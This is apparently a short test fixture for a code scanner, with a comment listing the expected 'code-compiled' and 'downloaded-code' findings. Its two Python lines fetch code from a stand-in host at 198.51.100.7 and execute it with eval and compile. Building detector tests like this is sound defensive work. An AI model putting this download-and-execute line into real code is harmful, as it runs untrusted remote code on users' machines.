# expect: 3 code-compiled, 3 downloaded-code
import urllib.request as r
eval(compile(r.urlopen('http://198.51.100.7/x').read(), 'x', 'exec'))
